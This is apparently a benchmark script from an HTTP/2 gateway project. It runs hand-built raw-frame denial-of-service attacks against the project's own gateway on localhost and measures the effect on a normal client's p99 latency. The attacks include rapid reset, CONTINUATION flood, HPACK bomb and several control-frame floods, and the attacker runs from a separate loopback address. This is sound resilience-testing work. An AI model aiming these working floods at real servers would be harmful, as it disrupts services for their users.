#!/usr/bin/env python3
"""HTTP/2 abuse benchmark (issue 12): what each attack costs a normal client.

    .venv/bin/python bench/h2abuse.py                        # every attack, 10 s each
    .venv/bin/python bench/h2abuse.py --duration 3 --attack rapid_reset --attack ping_flood

Everything runs on 127.0.0.1 on free ports, in one temp dir: an nginx upstream (2 KiB on
``/``, 1 MiB on ``/big``) and the gateway in front of it with ``codec_type: http2`` (h2c
prior knowledge), started as ``bench/run.py`` starts it. The normal client is
``h2load -t1 -c4 -m10 --rps 50`` (200 requests/s) for ``--duration`` seconds; its p99
comes from h2load's per-request log. First a run without attack (after a warm-up), then
one run per attack while a child process (``h2abuse.py --attacker NAME``) attacks from
raw frames for the same time, reconnecting each time the gateway cuts it, so the
pressure lasts the whole run. The attacker connects from 127.0.0.2, the normal client
from 127.0.0.1: the gateway refuses new connections from an address whose connections
keep being cut (``gateway/dataplane/penalty.py``), which an attacker sharing the normal
client's address would turn against it. Reported per attack: the normal client's p99 and its
ratio to the run without attack (target <= 2x), its failed requests, the connections
the gateway cut and their GOAWAY codes, and the gateway's RSS growth (peak during the
run minus before it). With 2 or more CPUs the gateway is pinned to the first, the
rest to the second, where the attacker runs at nice 19: it takes only the time h2load
and the upstream leave, so what the normal client feels is the gateway's share of the
attack, not the attacker's own CPU on a 2-core box. Stdlib only (frames and HPACK are
built by hand); it measures and does not judge: the exit status is 0 whatever the figures.
"""

from __future__ import annotations

import argparse
import collections
import contextlib
import json
import os
import select
import shutil
import socket
import subprocess
import sys
import tempfile
import time
from collections.abc import Callable, Iterator, Sequence
from pathlib import Path
from typing import Any

from harness.gateway import find_twistd, start_gateway
from harness.nginx import nginx_common, nginx_http_common, start_nginx
from harness.procs import Interrupted, Processes, free_port, signals_raise, tree, wait_port
from harness.sample import CpuWindow, PeakRss, total_rss_kib

BIG = 1 << 20
TARGET_RATIO = 2.0
ATTACKER_ADDRESS = "127.0.0.2"  # the normal client is 127.0.0.1
GOAWAY_NAMES = {0x1: "PROTOCOL_ERROR", 0x3: "FLOW_CONTROL_ERROR", 0x6: "FRAME_SIZE_ERROR",
                0x8: "CANCEL", 0xB: "ENHANCE_YOUR_CALM"}

# -- frames and HPACK, by hand (RFC 9113 4.1, RFC 7541 5.1, 5.2, 6)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags])
            + stream_id.to_bytes(4, "big") + payload)


def hpack_int(value: int, bits: int, first: int) -> bytes:
    limit = (1 << bits) - 1
    if value < limit:
        return bytes([first | value])
    out = [first | limit]
    value -= limit
    while value >= 128:
        out.append((value & 127) | 128)
        value >>= 7
    out.append(value)
    return bytes(out)


def literal(name: bytes, value: bytes, indexed: bool = False) -> bytes:
    """A literal field with a literal name: added to the dynamic table when ``indexed``."""
    return (bytes([0x40 if indexed else 0x00]) + hpack_int(len(name), 7, 0) + name
            + hpack_int(len(value), 7, 0) + value)


def request(stream_id: int, path: bytes, end_headers: bool = True,
            extra: bytes = b"") -> bytes:
    block = b"".join(literal(n, v) for n, v in (
        (b":method", b"GET"), (b":scheme", b"http"), (b":authority", AUTHORITY),
        (b":path", path))) + extra
    return frame(0x1, 0x1 | (0x4 if end_headers else 0), stream_id, block)


def settings(**values: int) -> bytes:
    codes = {"INITIAL_WINDOW_SIZE": 0x4}
    return frame(0x4, 0, 0, b"".join(codes[k].to_bytes(2, "big") + v.to_bytes(4, "big")
                                     for k, v in values.items()))


AUTHORITY = b"127.0.0.1"  # set from --port in the attacker
SETTINGS_ACK = frame(0x4, 0x1, 0)
PING = frame(0x6, 0, 0, b"\0" * 8)


def rst(stream_id: int) -> bytes:
    return frame(0x3, 0, stream_id, (0x8).to_bytes(4, "big"))


def window_update(stream_id: int, increment: int) -> bytes:
    return frame(0x8, 0, stream_id, increment.to_bytes(4, "big"))


# -- the attacker (a child process): one connection after another until time is up


class Conn:
    """A raw connection that reads (without blocking) only to notice GOAWAY and close."""

    def __init__(self, port: int, hello: bytes) -> None:
        # from another address than the normal client, as an attacker would be: the
        # gateway refuses an address whose connections keep being cut (penalty.py)
        self.sock = socket.create_connection(("127.0.0.1", port), timeout=5,
                                             source_address=(ATTACKER_ADDRESS, 0))
        self.sock.setblocking(False)
        self.buffer = bytearray()
        self.goaway: int | None = None
        self.closed = False
        self.send(PREFACE + hello + SETTINGS_ACK)

    def send(self, data: bytes, deadline: float = 0.0) -> bool:
        view = memoryview(data)
        deadline = deadline or time.monotonic() + 5
        while view and not self.closed and time.monotonic() < deadline:
            try:
                sent = self.sock.send(view)
                view = view[sent:]
            except BlockingIOError:
                self.read(0.05)
            except OSError:
                self.closed = True
        return not view and not self.closed

    def read(self, wait: float = 0.0) -> None:
        while not self.closed and select.select([self.sock], [], [], wait)[0]:
            wait = 0.0
            try:
                chunk = self.sock.recv(1 << 16)
            except OSError:
                chunk = b""
            if not chunk:
                self.closed = True
                return
            self.buffer += chunk
            while len(self.buffer) >= 9:
                length = int.from_bytes(self.buffer[:3], "big")
                if len(self.buffer) < 9 + length:
                    break
                if self.buffer[3] == 0x7 and length >= 8:
                    self.goaway = int.from_bytes(self.buffer[13:17], "big")
                del self.buffer[:9 + length]

    @property
    def done(self) -> bool:
        return self.closed or self.goaway is not None

    def close(self) -> None:
        self.sock.close()


def flood(conn: Conn, end: float, batch: Callable[[int], bytes]) -> None:
    """Send ``batch(i)`` for i = 0, 1, ... until the gateway answers GOAWAY or closes."""
    i = 0
    while not conn.done and time.monotonic() < end:
        if not conn.send(batch(i), end):
            break
        conn.read()
        i += 1


def rapid_reset(conn: Conn, end: float) -> None:
    def batch(i: int) -> bytes:
        first = 1 + 200 * i
        return b"".join(request(sid, b"/") + rst(sid) for sid in range(first, first + 200, 2))
    flood(conn, end, batch)


def continuation(conn: Conn, end: float) -> None:
    conn.send(request(1, b"/", end_headers=False))
    chunk = frame(0x9, 0, 1, b"\0" * 16384)
    flood(conn, end, lambda i: chunk)


def hpack_bomb(conn: Conn, end: float) -> None:
    seed = request(1, b"/", extra=literal(b"x-bomb", b"b" * 4000, indexed=True))
    bomb = frame(0x1, 0x5, 3, b"\xbe" * 4000)  # index 62: the 4 KiB entry, 4000 times
    flood(conn, end, lambda i: seed + bomb if i == 0 else PING)


def ping_flood(conn: Conn, end: float) -> None:
    flood(conn, end, lambda i: PING * 500)


def settings_flood(conn: Conn, end: float) -> None:
    frames = settings(INITIAL_WINDOW_SIZE=65535) * 500
    flood(conn, end, lambda i: frames)


def window_update_flood(conn: Conn, end: float) -> None:
    frames = window_update(0, 1) * 500
    flood(conn, end, lambda i: frames)


def streams_past_limit(conn: Conn, end: float) -> None:
    def batch(i: int) -> bytes:
        first = 1 + 200 * i
        return b"".join(request(sid, b"/") for sid in range(first, first + 200, 2))
    flood(conn, end, batch)


def zero_window(conn: Conn, end: float) -> None:
    """128 downloads of /big with INITIAL_WINDOW_SIZE 0, held without reading."""
    conn.send(b"".join(request(2 * i + 1, b"/big") for i in range(128)))
    while time.monotonic() < end and not conn.closed:
        time.sleep(0.1)


ATTACKS: dict[str, tuple[Callable[[Conn, float], None], bytes, int]] = {
    # name: (attack, client SETTINGS, parallel connections)
    "rapid_reset": (rapid_reset, settings(), 1),
    "continuation": (continuation, settings(), 1),
    "hpack_bomb": (hpack_bomb, settings(), 1),
    "ping_flood": (ping_flood, settings(), 1),
    "settings_flood": (settings_flood, settings(), 1),
    "window_update_flood": (window_update_flood, settings(), 1),
    "streams_past_limit": (streams_past_limit, settings(), 1),
    "zero_window": (zero_window, settings(INITIAL_WINDOW_SIZE=0), 2),
}


def attacker(name: str, port: int, seconds: float) -> None:
    """Attack until ``seconds`` have passed; print what happened as one JSON line."""
    global AUTHORITY
    AUTHORITY = f"127.0.0.1:{port}".encode()
    attack, hello, parallel = ATTACKS[name]
    end = time.monotonic() + seconds
    codes: collections.Counter[str] = collections.Counter()
    connections = 0
    if parallel > 1:  # held connections: opened once, kept for the whole run
        conns = [Conn(port, hello) for _ in range(parallel)]
        for conn in conns:
            attack(conn, time.monotonic())
        while time.monotonic() < end:
            time.sleep(0.1)
        connections = parallel
        for conn in conns:
            conn.read()
            if conn.goaway is not None:
                codes[GOAWAY_NAMES.get(conn.goaway, hex(conn.goaway))] += 1
            conn.close()
    while parallel == 1 and time.monotonic() < end:
        try:
            conn = Conn(port, hello)
        except OSError:
            time.sleep(0.05)
            continue
        connections += 1
        attack(conn, end)
        conn.read(0.5 if time.monotonic() < end else 0.0)
        if conn.goaway is not None:
            codes[GOAWAY_NAMES.get(conn.goaway, hex(conn.goaway))] += 1
        conn.close()
    print(json.dumps({"connections": connections, "goaway": dict(codes)}), flush=True)


# -- the harness


def upstream_conf(tmp: Path, port: int) -> str:
    (tmp / "big").write_bytes(b"x" * BIG)
    body = ("ok\n" + "x" * 2045).replace("\n", "\\n")
    return (
        nginx_common(tmp, "upstream")
        + "http {\n" + nginx_http_common(tmp, "upstream")
        + "  server {\n"
        f"    listen 127.0.0.1:{port} backlog=4096;\n"
        f"    location = /big {{ default_type application/octet-stream; alias {tmp}/big; }}\n"
        f'    location / {{ default_type text/plain; return 200 "{body}"; }}\n'
        "  }\n}\n"
    )


def p99_ms(log_file: Path) -> tuple[float, int, int]:
    """(p99 in ms, requests, non-2xx) from an h2load --log-file."""
    times: list[int] = []
    bad = 0
    for line in log_file.read_text().splitlines():
        parts = line.split("\t")
        if len(parts) < 3:
            continue
        times.append(int(parts[2]))
        bad += not parts[1].startswith("2")
    if not times:
        return float("nan"), 0, 0
    times.sort()
    return times[min(len(times) - 1, int(len(times) * 0.99))] / 1000, len(times), bad


class Harness:
    def __init__(self, args: argparse.Namespace, procs: Processes, tmp: Path) -> None:
        self.args = args
        self.procs = procs
        self.tmp = tmp
        cpus = sorted(os.sched_getaffinity(0))
        pinned = len(cpus) >= 2 and shutil.which("taskset") is not None
        self.gateway_cpu = str(cpus[0]) if pinned else None
        self.load_cpu = str(cpus[1]) if pinned else None
        self.port = 0
        self.gateway_pid = 0
        self.upstream_pids: list[int] = []

    def pin(self, argv: list[str]) -> list[str]:
        return ["taskset", "-c", self.load_cpu, *argv] if self.load_cpu else argv

    def start(self) -> None:
        up_port = free_port()
        upstream = start_nginx(self.procs, self.tmp, "upstream",
                               upstream_conf(self.tmp, up_port), self.load_cpu)
        wait_port(up_port, upstream)
        self.upstream_pids = tree(upstream.pid)
        gateway, self.port = start_gateway(self.procs, self.tmp, find_twistd(self.args.twistd),
                                           "gateway", up_port, "http2", self.gateway_cpu)
        wait_port(self.port, gateway)
        self.gateway_pid = gateway.pid

    def run(self, name: str | None, duration: float) -> dict[str, Any]:
        """h2load for ``duration`` s, with the attack ``name`` beside it (or none)."""
        log_file = self.tmp / f"h2load-{name or 'none'}.log"
        log_file.unlink(missing_ok=True)
        argv = self.pin(["h2load", "-t1", "-c4", "-m10", "--rps", "50", f"-D{duration:g}",
                         f"--log-file={log_file}", f"http://127.0.0.1:{self.port}/"])
        before = total_rss_kib([self.gateway_pid])
        groups = {"gateway": [self.gateway_pid], "upstream": self.upstream_pids}
        with PeakRss([self.gateway_pid]) as peak:
            attack = None
            if name is not None:
                attack = subprocess.Popen(self.pin([
                    "nice", "-n", "19", sys.executable, __file__, "--attacker", name,
                    "--port", str(self.port), "--seconds", f"{duration:g}"]),
                    stdout=subprocess.PIPE, text=True)
                groups["attacker"] = [attack.pid]
            spy = None
            if name is not None and self.args.profile:  # py-spy of the gateway, raw stacks
                spy = subprocess.Popen(
                    [str(Path(find_twistd(self.args.twistd)).parent / "py-spy"), "record",
                     "-r", "500", "-f", "raw", "-o", str(Path(self.args.profile) / f"{name}.txt"),
                     "-p", str(self.gateway_pid), "-d", f"{duration:g}"],
                    stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            with CpuWindow(groups) as window:
                load = subprocess.run(argv, capture_output=True, text=True,
                                      timeout=duration + 60, check=False)
                cpu = window.result(None)
            if spy is not None:
                spy.wait(timeout=30)
            report: dict[str, Any] = {}
            if attack is not None:
                out, _ = attack.communicate(timeout=30)
                report = json.loads(out.strip().splitlines()[-1]) if out.strip() else {}
        time.sleep(1)
        p99, requests, bad = p99_ms(log_file)
        failed = 0
        for line in load.stdout.splitlines():
            if line.startswith("requests:"):
                failed = int(line.split(" failed")[0].rsplit(",", 1)[1].split()[0])
        return {"attack": name or "(none)", "p99_ms": p99, "requests": requests,
                "non_2xx": bad, "failed": failed, "rss_before_kib": before,
                "rss_peak_kib": peak.peak, "rss_after_kib": total_rss_kib([self.gateway_pid]),
                "gateway_cpu%": cpu["cpu%"]["gateway"],
                "upstream_cpu%": cpu["cpu%"]["upstream"],
                "other_procs_cpu%": cpu["cpu%"]["other_procs"], **report}


def report(rows: list[dict[str, Any]]) -> str:
    """One line per attack; its ratio is to the run without attack just before it."""
    lines = [f"{'attack':<20} {'p99 ms':>8} {'base ms':>8} {'ratio':>6} {'failed':>6} "
             f"{'cut':>5} {'GOAWAY codes':<26} {'RSS +KiB':>9} {'gw CPU':>6} {'up CPU':>6} "
             f"{'other':>5}"]
    for r in rows:
        base = r.get("baseline_p99_ms", r["p99_ms"])
        ratio = r["p99_ms"] / base if base else float("nan")
        codes = ", ".join(f"{k} x{v}" for k, v in r.get("goaway", {}).items()) or "-"
        cut = sum(r.get("goaway", {}).values())
        lines.append(f"{r['attack']:<20} {r['p99_ms']:>8.2f} {base:>8.2f} {ratio:>5.2f}x "
                     f"{r['failed'] + r['non_2xx']:>6} {cut:>5} {codes:<26} "
                     f"{r['rss_peak_kib'] - r['rss_before_kib']:>9} "
                     f"{r['gateway_cpu%']:>5}% {r['upstream_cpu%']:>5}% "
                     f"{r['other_procs_cpu%']:>4}%")
    lines.append(f"target: p99 with attack <= {TARGET_RATIO:g} x p99 without; 'up' is the "
                 "upstream nginx (on the load generator's CPU); 'other' is the CPU of processes "
                 "outside the benchmark (the box is shared)")
    return "\n".join(lines)


def parse_args(argv: Sequence[str]) -> argparse.Namespace:
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0] if __doc__ else None)
    p.add_argument("--duration", type=float, default=10.0, help="seconds per run")
    p.add_argument("--attack", action="append", choices=sorted(ATTACKS),
                   help="run only these attacks (repeatable)")
    p.add_argument("--twistd", default=None, help="path to twistd (default: the venv's)")
    p.add_argument("--out", default=None, help="write the raw results as JSON here")
    p.add_argument("--keep-tmp", action="store_true", help="keep the temp dir")
    p.add_argument("--profile", default=None,
                   help="py-spy record the gateway during each attack: DIR/<attack>.txt")
    p.add_argument("--attacker", help=argparse.SUPPRESS)
    p.add_argument("--port", type=int, help=argparse.SUPPRESS)
    p.add_argument("--seconds", type=float, help=argparse.SUPPRESS)
    return p.parse_args(argv)


@contextlib.contextmanager
def temp_dir(keep: bool) -> Iterator[Path]:
    path = Path(tempfile.mkdtemp(prefix="gateway-h2abuse-"))
    ok = False
    try:
        yield path
        ok = True
    finally:
        if ok and not keep:
            shutil.rmtree(path, ignore_errors=True)
        else:
            print(f"temp dir kept: {path}", file=sys.stderr)


def main(argv: Sequence[str]) -> int:
    args = parse_args(argv)
    if args.attacker:
        attacker(args.attacker, args.port, args.seconds)
        return 0
    missing = [t for t in ("nginx", "h2load") if shutil.which(t) is None]
    if missing:
        print(f"missing tools: {', '.join(missing)} "
              "(apt-get install -y nginx nghttp2-client)", file=sys.stderr)
        return 2
    names = args.attack or list(ATTACKS)
    with signals_raise(), temp_dir(args.keep_tmp) as tmp:
        procs = Processes(tmp)
        try:
            harness = Harness(args, procs, tmp)
            harness.start()
            print(f"gateway on 127.0.0.1:{harness.port}; warm-up 3 s", flush=True)
            harness.run(None, 3)
            rows: list[dict[str, Any]] = []
            for name in names:  # each attack paired with a run without, just before it
                base = harness.run(None, args.duration)
                row = {**harness.run(name, args.duration), "baseline_p99_ms": base["p99_ms"],
                       "baseline": base}
                rows.append(row)
                print(f"  {name}: p99 {row['p99_ms']:.2f} ms (without: {base['p99_ms']:.2f} ms), "
                      f"{row.get('connections', 0)} attack connections", flush=True)
            print()
            print(report(rows))
            if args.out:
                Path(args.out).write_text(json.dumps(rows, indent=2))
        except Interrupted as exc:
            print(f"interrupted ({exc})", file=sys.stderr)
            return 130
        finally:
            procs.stop_all()
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
